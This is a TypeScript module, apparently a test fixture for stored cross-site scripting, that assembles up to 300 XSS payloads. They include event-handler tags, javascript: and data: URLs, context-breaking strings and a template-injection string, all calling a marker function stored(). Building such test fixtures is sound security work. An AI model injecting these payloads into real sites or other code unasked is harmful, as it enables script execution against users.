/** Written one by one; the first ones are enough for a run of every day. */
const BY_HAND: readonly string[] = [
  '<img src=x onerror=stored()>',
  '<svg onload=stored()>',
  '<script>stored()</script>',
  '"><img src=x onerror=stored()>',
  "'><svg/onload=stored()>",
  '</script><script>stored()</script>',
  '</textarea><img src=x onerror=stored()>',
  '</title><svg onload=stored()>',
  '<iframe srcdoc="<script>parent.stored()</script>">',
  '<iframe src="javascript:parent.stored()"></iframe>',
  '<body onload=stored()>',
  '<input autofocus onfocus=stored()>',
  '<details open ontoggle=stored()>',
  '<video src=x onerror=stored()></video>',
  '<audio src=x onerror=stored()>',
  '<object data="javascript:stored()"></object>',
  '<embed src="javascript:stored()">',
  '<a href="javascript:stored()">x</a>',
  'javascript:stored()',
  'JaVaScRiPt:stored()//',
  'data:text/html,<script>stored()</script>',
  '<math><mtext><img src=x onerror=stored()></mtext></math>',
  "<style>@import 'javascript:stored()'</style>",
  '<svg><script>stored()</script></svg>',
  '&lt;img src=x onerror=stored()&gt;',
  "{{constructor.constructor('stored()')()}}",
  '<form><button formaction="javascript:stored()">x</form>',
  '<noscript><p title="</noscript><img src=x onerror=stored()>">',
  '<meta http-equiv=refresh content="0;url=javascript:stored()">',
  '<img src=1 srcset=x onerror=stored()//',
]

/** What runs something by itself or when it is touched, and the handler that does. */
const CARRIERS: readonly (readonly [tag: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['p tabindex=1 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe', 'onload'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['marquee', 'onstart'],
  ['a href=# autofocus', 'onfocus'],
  ['a href=#', 'onclick'],
  ['p', 'onpointerover'],
  ['div style=position:fixed;inset:0', 'onmousemove'],
]

type Writing = (tag: string, handler: string) => string

/** How such a tag is written, and what it breaks out of first. */
const WRITINGS: readonly Writing[] = [
  (tag, handler) => `<${tag} ${handler}=stored()>`,
  (tag, handler) => `<${tag} ${handler}="stored()">`,
  (tag, handler) => `<${tag} ${handler}='stored()'>`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=stored()>`,
  (tag, handler) => `<${tag} ${handler} = stored() x>`,
  (tag, handler) => `<${tag} ${handler}=stored()//`,
  (tag, handler) => `"><${tag} ${handler}=stored()>`,
  (tag, handler) => `'><${tag} ${handler}=stored()>`,
  (tag, handler) => `--><${tag} ${handler}=stored()>`,
  (tag, handler) => `</title></textarea></style></script><${tag} ${handler}=stored()>`,
]

const MOST = 300

/** Texts that run `stored()` where they are taken for a page, an address or a template; the short ones fit any field. */
export const SCRIPTS: readonly string[] = [
  ...new Set([
    ...BY_HAND,
    ...WRITINGS.flatMap((write) => CARRIERS.map(([tag, handler]) => write(tag, handler))),
  ]),
].slice(0, MOST)

/** What a stored text is known by wherever it is shown. */
export const MARK = 'stored()'

/** The script of that number; of those that fit where it does not, and cut off where none does. */
export function scriptFor(number: number, most: number): string {
  const at = number % SCRIPTS.length
  const inTurn = [...SCRIPTS.slice(at), ...SCRIPTS.slice(0, at)]
  return inTurn.find(({ length }) => length <= most) ?? (SCRIPTS[1] ?? '').slice(0, most)
}
